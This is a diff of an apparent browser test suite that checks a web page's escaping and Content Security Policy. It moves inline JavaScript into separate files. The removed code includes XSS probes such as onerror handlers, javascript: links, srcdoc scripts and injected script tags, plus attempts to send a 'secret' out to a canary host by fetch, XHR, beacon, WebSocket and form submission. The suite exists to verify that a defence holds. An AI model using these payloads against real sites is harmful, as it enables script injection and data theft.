@@ -19,6 +19,7 @@ from tests.provider import Provider, Scripted, error
 from tests.reports import report
 from tests.summary import SUMMARY
 
+HERE = Path(__file__).parent
 ATTACKS = "datasets/xss_and_naughty_strings_dev"
 QUESTION = "How long is the bridge at Ostvik?"
 SLOTS = {
@@ -29,57 +30,12 @@ SLOTS = {
     "drafts": "#fn-live .html-container > div",
 }
 
-# Before anything of the page: traps for what would run, and counts of what would be loaded or was stopped.
-TRAP = """
-window.hacked = 0;
-window.trapped = [];
-for (const name of ['alert', 'confirm', 'prompt', 'print', 'open']) {
-  window[name] = () => { window.hacked += 1; window.trapped.push(name); };
-}
-document.addEventListener('securitypolicyviolation', (event) => {
-  window.trapped.push(`${event.violatedDirective} ${event.blockedURI} ${event.sample}`);
-});
-new MutationObserver((changes) => {
-  for (const change of changes) for (const node of change.addedNodes) {
-    if (node.nodeName === 'SCRIPT') window.scripts = (window.scripts || 0) + 1;
-  }
-}).observe(document, { childList: true, subtree: true });
-"""
-
-# Whatever stands in a slot must be our own markup: these elements, no handler, no address but ours.
-LOOK = r"""
-window.strange = (slots) => {
-  const names = new Set(('article section aside header nav div p span h1 h2 h3 h4 h5 h6 ul ol li dl dt dd a button form fieldset ' +
-    'legend label input textarea select option details summary q blockquote mark strong em b code pre kbd small abbr sup br hr ' +
-    'table caption bdi cite desc thead tbody tr th td progress figure figcaption svg g path line rect circle text title polyline polygon').split(' '));
-  const links = new RegExp('^(#[a-z0-9.-]+|/saved/[\\w-]+/[\\d.]+\\.(md|docx|json)|/\\?c=[\\w-]*|/\\?q=[\\w%.~!*\'()/-]*)$');
-  const inert = new Set(['style', 'src', 'srcset', 'poster', 'action', 'formaction', 'background', 'data', 'srcdoc', 'ping',
-    'xlink:href', 'http-equiv', 'autofocus', 'contenteditable', 'manifest', 'is']);
-  const found = [];
-  let count = 0;
-  for (const slot of slots) for (const element of document.querySelectorAll(`${slot}, ${slot} *`)) {
-    count += 1;
-    if (!names.has(element.localName)) found.push(`<${element.localName}>`);
-    for (const { name, value } of element.attributes) {
-      if (name.startsWith('on') || inert.has(name)) found.push(`<${element.localName} ${name}="${value.slice(0, 80)}">`);
-      if (name === 'href' && !links.test(value)) found.push(`<${element.localName} href="${value.slice(0, 80)}">`);
-    }
-  }
-  return { found: found.slice(0, 10), count };
-};
-window.put = (slot, html) => {
-  const place = document.querySelector(slot);
-  place.innerHTML = html;
-  return window.strange([slot]);
-};
-"""
-
 
 class Watch(Visit):
     """A page that is open while it is attacked."""
 
     def __init__(self, page: Page, url: str) -> None:
-        page.add_init_script(TRAP + LOOK)
+        page.add_init_script((HERE / "trap.js").read_text(encoding="utf-8"))
         super().__init__(page, url)
         self.scripts = page.evaluate("document.scripts.length")
 
@@ -147,6 +103,8 @@ def test_no_attack_runs_anywhere_with_the_policy_or_without(
     watch: Callable[..., Watch], quotes_url: str, canary: Canary, all_texts: list[str]
 ) -> None:
     pages = [watch(quotes_url), watch(quotes_url, policy=False)]
+    for page in pages:  # what is out of sight is laid out late, as in a long conversation
+        page.page.add_style_tag(content=".fn-turn, .fn-panel, .fn-entry, .fn-job { content-visibility: auto }")
     numbers = itertools.count(1)
     elements = 0
 
@@ -298,7 +256,7 @@ def _open_everything(visit: Watch) -> None:
     page.locator('[data-evidence="why-of"]').first.click()
     expect(page.locator(".fn-because").first).to_be_visible()
     visit.check()
-    page.evaluate("document.getSelection().selectAllChildren(document.querySelector('.fn-answer p'))")
+    page.evaluate("document.getSelection().selectAllChildren(document.querySelector('.fn-sentence'))")
     page.locator("#fn-origin").click()
     expect(page.locator("#fn-side .fn-panel h2")).to_be_focused()
     page.locator('[data-do="edit"]').first.click()
@@ -312,60 +270,13 @@ def _open_everything(visit: Watch) -> None:
 # ---------------------------------------------------------------- where escaping would fail
 
 
-BREAK_OUT = """
-async (host) => {
-  const url = (path) => `http://${host}/${path}`;
-  const put = (html) => {
-    const place = document.createElement('div');
-    place.innerHTML = html;
-    document.querySelector('#fn-history .fn-slot').append(place);
-    return place;
-  };
-  put(`<img src=${url('img')}><img srcset="${url('set')} 1x"><picture><source srcset=${url('source')}><img></picture>`);
-  put(`<video poster=${url('poster')} src=${url('video')}></video><audio src=${url('audio')}></audio>`);
-  put(`<svg><image href=${url('svg')} /></svg><div style="background:url(${url('css')})">x</div>`);
-  put(`<style>@import url(${url('import')}); @font-face { font-family: z; src: url(${url('font')}) } #fn-history { font-family: z }</style>`);
-  put(`<link rel=stylesheet href=${url('link')}><link rel=prefetch href=${url('prefetch')}><link rel=icon href=${url('icon')}>`);
-  put(`<iframe src=${url('frame')}></iframe><object data=${url('object')}></object><embed src=${url('embed')}>`);
-  put(`<img src=x onerror="window.ran = 'handler'"><a id=go href="javascript:window.ran='link'">x</a>`).querySelector('#go').click();
-  put(`<iframe srcdoc="<script>parent.ran='srcdoc'<${'/'}script>"></iframe>`);
-  for (const [name, value] of [['src', url('script')], ['textContent', "window.ran = 'inline'"]]) {
-    const script = document.createElement('script');
-    script[name] = value;
-    document.head.append(script);
-  }
-  for (const method of ['get', 'post']) put(`<form action=${url('form')} method=${method} target=_self></form>`).firstChild.submit();
-  put(`<base href=${url('base/')}><img src=relative>`);
-  const tries = {
-    fetch: () => fetch(url('fetch'), { mode: 'no-cors' }),
-    request: () => new Promise((done, fail) => {
-      const request = new XMLHttpRequest();
-      request.onload = done;
-      request.onerror = fail;
-      request.open('POST', url('xhr'));
-      request.send('secret');
-    }),
-    beacon: async () => { navigator.sendBeacon(url('beacon'), 'secret'); throw Error(); },
-    events: () => new Promise((done, fail) => Object.assign(new EventSource(url('events')), { onopen: done, onerror: fail })),
-    socket: () => new Promise((done, fail) => Object.assign(new WebSocket(`ws://${host}/socket`), { onopen: done, onerror: fail })),
-    worker: () => new Promise((done, fail) => Object.assign(new Worker(url('worker')), { onmessage: done, onerror: fail })),
-    module: () => import(url('module')),
-  };
-  const through = [];
-  for (const [name, attempt] of Object.entries(tries)) await attempt().then(() => through.push(name), () => {});
-  await new Promise((done) => setTimeout(done, 1000));
-  return { through, ran: window.ran || '', base: document.baseURI, at: location.href, stopped: window.trapped };
-}
-"""
-
-
 def test_the_policy_stops_what_escaping_would_have_let_through(
     watch: Callable[..., Watch], quotes_url: str, canary: Canary
 ) -> None:
     visit = watch(quotes_url)
     before = visit.page.url
     canary.asked.clear()
-    found: dict[str, Any] = visit.page.evaluate(BREAK_OUT, canary.host)
+    found: dict[str, Any] = visit.page.evaluate((HERE / "break_out.js").read_text(encoding="utf-8"), canary.host)
     assert found["through"] == []
     assert found["ran"] == ""
     assert found["base"].startswith(quotes_url)
@@ -373,9 +284,10 @@ def test_the_policy_stops_what_escaping_would_have_let_through(
     assert canary.asked == []
     stopped = {violation.split()[0] for violation in found["stopped"]}
     SUMMARY.add(requests_stopped_by_the_policy=len(found["stopped"]))
-    assert stopped >= {"img-src", "media-src", "font-src", "style-src-elem", "frame-src", "object-src", "connect-src"} | {
-        "script-src-elem", "script-src-attr", "worker-src", "form-action", "base-uri",
-    }  # fmt: skip
+    assert stopped >= set(
+        "img-src media-src font-src style-src-elem frame-src object-src connect-src script-src-elem script-src-attr "
+        "worker-src form-action base-uri".split()
+    )
 
 
 def test_every_response_carries_the_policy(watch: Callable[..., Watch], quotes_url: str) -> None:
